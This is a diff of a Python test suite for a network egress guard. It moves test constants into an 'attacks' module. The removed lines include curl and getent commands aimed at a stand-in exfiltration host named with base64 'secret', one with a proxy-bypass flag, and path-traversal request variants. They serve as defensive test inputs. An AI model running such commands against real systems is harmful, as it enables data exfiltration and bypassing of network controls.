@@ -9,6 +9,7 @@ import time
 import pytest
 
 import world as world_module
+from attacks import ASK_FOR_IT, FORBIDDEN_NAME, OTHER_METHODS_AND_PATHS
 
 
 def test_an_allowed_host_answers_and_a_forbidden_one_does_not(world, operator, runtime):
@@ -36,10 +37,6 @@ def test_the_guard_trusts_the_roots_of_the_operators_machine(world, operator, tr
     session = operator.start("curl -sS -m 60 https://inspected.example.org/hello", env={"SSL_CERT_FILE": world.ca} if trusted else {},
                              egress={"allow": [{"host": "inspected.example.org", "inspect": True}], "extra_ca": []})
     assert ("hello from inspected.example.org" in session.out) == trusted, session.explain()
-
-
-FORBIDDEN_NAME = "c2VjcmV0.exfil.example.net"
-ASK_FOR_IT = "curl -sS -m 10 https://{0}/; curl -sS -m 10 http://{0}/; getent hosts {0}; curl --noproxy '*' -sS -m 10 https://{0}/; true".format(FORBIDDEN_NAME)
 
 
 def test_a_forbidden_name_is_never_looked_up(world, operator):
@@ -148,12 +145,6 @@ def test_raw_addresses_are_refused_in_every_spelling(operator):
     session = operator.start(script, egress={"allow": ["*"]})
     assert session.status == 0, session.explain()
     assert "CANARY" not in session.out
-
-
-OTHER_METHODS_AND_PATHS = (
-    "for a in '-X GET https://inspected.example.org/ok/a' '-X POST https://inspected.example.org/ok/b' 'https://inspected.example.org/no' "
-    "'--path-as-is https://inspected.example.org/ok/../no' 'https://inspected.example.org/ok/%2e%2e/no'; do "
-    "curl -sS -m 60 -o /dev/null -w '%{http_code}\\n' $a; done")
 
 
 def test_rules_for_methods_and_paths_are_enforced(world, operator):
